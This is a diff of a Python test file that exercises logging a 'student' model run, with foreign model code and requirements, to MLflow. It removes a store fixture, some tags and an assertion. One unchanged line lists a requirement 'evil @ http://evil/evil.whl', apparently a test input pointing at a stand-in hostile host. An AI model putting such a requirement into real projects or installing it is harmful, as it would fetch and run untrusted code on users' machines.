@@ -41,13 +41,6 @@ def network(path: Path) -> None:
     save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)], ir_version=9), str(path))
 
 
-@pytest.fixture(params=["sqlite", pytest.param("server", marks=pytest.mark.slow)])
-def store(request: pytest.FixtureRequest) -> str:
-    if request.param == "sqlite":
-        return str(request.getfixturevalue("sqlite_uri"))
-    return str(request.getfixturevalue("mlflow_server").uri)
-
-
 def student(folder: Path, experiment: str, broken: bool = False) -> Journal:
     """A run with a model whose Python file, and whose requirements, are not this project's."""
     journal = Journal.create(folder, experiment=experiment)
@@ -68,8 +61,6 @@ def student(folder: Path, experiment: str, broken: bool = False) -> Journal:
         pip_requirements=["mlflow", "evil @ http://evil/evil.whl"],
         params={"classes": 10},
         metrics={"final/val_acc": 71.5},
-        tags={"asib.weights": "ab"},
-        step=9,
     )
     journal.metrics({"after": 1.0}, step=10)
     journal.end("FINISHED", "completed", 0)
@@ -93,7 +84,6 @@ def test_a_student_becomes_one_servable_model(store: str, tmp_path: Path) -> Non
     (model,) = models_of(client, done.run_id)
     assert str(model.status) == "READY"
     assert (model.name, model.params["classes"], model.params["model.name"]) == ("student", "10", "resnet20")
-    assert model.tags["asib.weights"] == "ab"
     run = client.get_run(done.run_id)
     assert [output.model_id for output in run.outputs.model_outputs] == [model.model_id]
     assert run.info.status == "FINISHED"
